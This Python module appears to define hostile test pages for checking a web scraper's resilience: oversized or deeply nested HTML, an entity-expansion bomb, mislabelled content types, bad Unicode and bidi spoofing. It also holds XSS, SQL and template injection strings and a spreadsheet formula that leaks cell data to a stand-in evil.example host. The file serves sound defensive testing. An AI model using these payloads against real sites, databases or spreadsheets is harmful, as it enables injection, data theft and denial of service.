"""Faults of content: pages that are huge, deep or empty, that lie about their type, or that attack whoever shows them."""

from __future__ import annotations

from scrapers.hostile_site.article_pages import PARAGRAPH, make_article, make_links
from scrapers.hostile_site.call import MEBIBYTE
from scrapers.hostile_site.faults import FaultGroup

CONTENT = FaultGroup()
_STORED = "stored"
_EITHER = "stored or not_an_article"
_BOUNDED = "bounded time and memory"
_TEXT = "stored as it stands; shown as text"
_page = CONTENT.page

# labels that lie
_page(
    "/c/type-octet",
    "HTML labelled application/octet-stream",
    "read or recorded",
    _EITHER,
    make_article,
    content_type="application/octet-stream",
)
_page("/c/type-image", "PNG labelled text/html", "no article", _EITHER, lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 200)
_page("/c/type-pdf", "PDF", "no article", "not_an_article", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", content_type="application/pdf")
_page("/c/type-json", "JSON labelled text/html", "no article", _EITHER, '{"a":1}')
_page("/c/type-missing", "no Content-Type", "read", _STORED, make_article, content_type=None)
_page("/c/type-odd", "Content-Type: html;;;=", "read or recorded", _EITHER, make_article, content_type="html;;;=")
_page(
    "/c/type-long",
    "a Content-Type of 10 KB",
    "read",
    "stored or not_an_article or failed",
    make_article,
    content_type="text/html; x=" + "y" * 10_000,
)
_page("/c/frameset", "a frameset", "no article", _EITHER, "<frameset><frame src=/site/1></frameset>")
_page(
    "/c/xhtml",
    "XHTML with entities of its own",
    _BOUNDED,
    _EITHER,
    lambda: (
        '<!DOCTYPE html [<!ENTITY a "'
        + "a" * 9999
        + '"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>'
        + "&b;" * 1000
        + "</p></body></html>"
    ),
    content_type="application/xhtml+xml",
)

# size and shape
_page("/c/title-10mb", "a title of nearly 10 MB", _BOUNDED, _STORED, lambda: make_article("T" * 4_900_000))
_page("/c/one-line", "one word of 9 MB", _BOUNDED, _STORED, lambda: make_article("one", "<p>" + "w" * 9_000_000 + "</p>"))
_page(
    "/c/too-big",
    "a page of 10 MiB",
    "refused at the size limit",
    "too_large",
    lambda: make_article("big", "<p>" + "w" * (10 * MEBIBYTE) + "</p>"),
)
_page("/c/deep", "200,000 nested <div>", _BOUNDED, _STORED, lambda: make_article("deep", "<div>" * 200_000))
_page(
    "/c/deep-b",
    "20,000 mis-nested formatting tags",
    _BOUNDED,
    _STORED,
    lambda: "<html><head><title>deep</title></head><body>" + "<b><i><p>" * 20_000 + PARAGRAPH,
)
_page(
    "/c/deep-300",
    "300 nested <div>",
    "text still read",
    _STORED,
    lambda: make_article("deep 300", "<div>" * 300 + f"<p>{PARAGRAPH}</p>" * 3 + "</div>" * 300),
)
_page("/c/deep-tables", "30,000 nested tables", _BOUNDED, _STORED, lambda: make_article("tables", "<table><tr><td>" * 30_000))
_page("/c/wide", "1,000,000 sibling <p>", _BOUNDED, _STORED, lambda: make_article("wide", "<p>x</p>" * 1_000_000))
_page(
    "/c/attributes",
    "100,000 attributes on one tag",
    _BOUNDED,
    _STORED,
    lambda: make_article("attributes", "<p " + " ".join(f'a{number}="v"' for number in range(100_000)) + ">x</p>"),
)
_page(
    "/c/attribute-2mb", "an attribute of 2 MB", _BOUNDED, _STORED, lambda: make_article("attribute", f'<p class="{"c" * 2_000_000}">x</p>')
)
_page("/c/script-open", "50,000 unclosed <script>", _BOUNDED, _STORED, lambda: "<html><head><title>x</title><script>" * 50_000)
_page(
    "/c/comment-open",
    "a comment of 1 MB that never ends",
    _BOUNDED,
    _STORED,
    lambda: make_article("comment", "<!--" + "<a href=/site/1>" * 60_000),
)
_page("/c/tag-open", "1 MB of <", _BOUNDED, _STORED, lambda: "<" * 1_000_000)
_page(
    "/c/plaintext",
    "a <plaintext> tag before all links",
    _BOUNDED,
    _STORED,
    lambda: make_article("plain", "<plaintext>", links=make_links("/site/1")),
)
_page("/c/spaces", "5 MB of spaces", "no article", _EITHER, lambda: " " * 5_000_000)
_page("/c/svg", "foreign namespaces around the article", "no crash", _STORED, lambda: "<svg><math><mtext>" + make_article() + "</svg>")
_page(
    "/c/data-uri",
    "a picture of 5 MB inside the page",
    _BOUNDED,
    _STORED,
    lambda: make_article("picture", '<img src="data:image/png;base64,' + "A" * 5_000_000 + '">'),
)
_page("/c/zalgo", "50,000 combining marks", _BOUNDED, _STORED, lambda: make_article("Z" + "\u0301" * 50_000))

# characters
_page(
    "/c/nul",
    "NUL bytes in title and text",
    "stripped; the row loads",
    _STORED,
    lambda: make_article("Har\x00bour", "<p>" + "wo\x00rd " * 300 + "</p>"),
)
_page(
    "/c/surrogates",
    "lone surrogates as references",
    "no crash down the line",
    _STORED,
    lambda: make_article("A &#xD800; &#xDFFF; B", "<p>" + "x &#xD83D; y " * 100 + "</p>"),
)
_page(
    "/c/big-references",
    "references beyond Unicode",
    "no crash",
    _STORED,
    lambda: make_article("A &#x110000; &#99999999999999999999; &#0; &#x80;"),
)
_page("/c/ansi", "terminal escape sequences", "never printed raw", _STORED, lambda: make_article("\x1b[2J\x1b]0;owned\x07 title"))
_page("/c/bidi", "direction overrides in the title", _TEXT, _STORED, lambda: make_article("invoice\u202efdp.exe\u2066"))
_page("/c/newline-title", "line ends in the title", "one log line", _STORED, lambda: make_article("one\r\ntwo\u2028three\x85four"))
_page(
    "/c/zero-width",
    "zero-width characters inside words",
    "same fingerprint as without",
    _STORED,
    lambda: make_article("Har\u200bbour\xad bud\ufeffget"),
)
_page("/c/decomposed", "decomposed Unicode", "same fingerprint as composed", _STORED, lambda: make_article("Cafe\u0301 re\u0301sume\u0301"))
_page(
    "/c/entities",
    "entities, escaped twice",
    "read once",
    _STORED,
    lambda: make_article("R&amp;D &lt;b&gt; &nbsp;&hellip; &NotAnEntity; &copy", "<p>" + "&amp;" * 10_000 + "</p>"),
)

# what attacks a reader
_SCRIPT = '"><script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">k</a>'.replace("<", "&lt;")
_page("/c/xss", "script text in title and body", _TEXT, _STORED, lambda: make_article(_SCRIPT, f"<p>{PARAGRAPH}</p><p>{_SCRIPT}</p>" * 3))
_page(
    "/c/markdown",
    "markdown in the title",
    _TEXT,
    _STORED,
    lambda: make_article("[click](javascript:alert(1)) ![]({internal}/track.png) &lt;img src=x onerror=alert(1)>"),
)
_page(
    "/c/formula",
    "a title that starts with =",
    "exports are neutralised",
    _STORED,
    lambda: make_article("=HYPERLINK(&quot;http://evil.example?&quot;&amp;A1,&quot;x&quot;)", f"<p>{PARAGRAPH * 2}</p>"),
)
_page("/c/sql", "SQL in the title", _TEXT, _STORED, lambda: make_article("'); DROP TABLE articles; --"))
_page("/c/template", "template and format text", _TEXT, _STORED, lambda: make_article("{{7*7}} ${7*7} #{7*7} %(x)s {0.__class__} %s%n"))

# what a page says of itself
_page(
    "/c/canonical-evil",
    "a canonical link to another site's article",
    "no other row is overwritten",
    _STORED,
    lambda: make_article(
        "canon", head='<link rel="canonical" href="http://other.example/famous-story"><meta property="og:url" content="{base}/site/1">'
    ),
)
_page(
    "/c/canonical-home",
    "a canonical link to the home page",
    "not merged",
    _STORED,
    lambda: make_article("canon home", head='<link rel="canonical" href="/">'),
)
_page(
    "/c/canonical-loop",
    "two canonical links that disagree",
    "stored",
    _STORED,
    lambda: make_article("canon two", head='<link rel="canonical" href="/site/1"><link rel="canonical" href="/site/2">'),
)
_page(
    "/c/jsonld-bad",
    "invalid JSON-LD",
    "ignored",
    _STORED,
    lambda: make_article("j", head='<script type="application/ld+json">{"@type":"NewsArticle","headline":"x",}</script>'),
)
_page(
    "/c/jsonld-deep",
    "JSON-LD nested 100,000 deep",
    "no recursion",
    _STORED,
    lambda: make_article("j", head='<script type="application/ld+json">' + "[" * 100_000 + "</script>"),
)
_page(
    "/c/jsonld-wide",
    "JSON-LD with 100,000 articles",
    _BOUNDED,
    _STORED,
    lambda: make_article("j", head='<script type="application/ld+json">[' + '{"@type":"NewsArticle"},' * 100_000 + "{}]</script>"),
)
_page(
    "/c/jsonld-number",
    "a number of 100,000 digits in JSON-LD",
    _BOUNDED,
    _STORED,
    lambda: make_article("j", head='<script type="application/ld+json">{"@type":"NewsArticle","wordCount":' + "9" * 100_000 + "}</script>"),
)
_page(
    "/c/paywall",
    "a paywall stub",
    "flagged",
    _STORED,
    lambda: make_article(
        "Paywall",
        f"<p>{PARAGRAPH[:200]}</p><p>Subscribe to read on</p>",
        head='<script type="application/ld+json">{"@type":"NewsArticle","isAccessibleForFree":false}</script>',
    ),
)
_page("/c/same-body", "a story that stands at two addresses", "one story", _STORED, make_article)
_page("/c/same-body2", "the same body", "one story", _STORED, make_article)

for _name, _date in {
    "future": "2999-01-01T00:00:00Z",
    "ancient": "0001-01-01",
    "zero": "0000-00-00",
    "feb30": "2026-02-30",
    "epoch": "99999999999999999",
    "zone": "2026-03-01T10:00:00+99:99",
    "text": "the day before yesterday " * 2000,
    "digits": "1" * 50_000,
    "backtracking": "2026-" + "0" * 30_000 + "!",
    "ambiguous": "03/04/26",
    "leap": "2016-12-31T23:59:60Z",
    "summer-time": "2026-03-29T02:30:00",
}.items():
    _page(
        f"/c/date-{_name}",
        f"date of publication: {_name}",
        "unknown or right, never wrong in silence",
        _STORED,
        make_article("date", date=_date),
    )
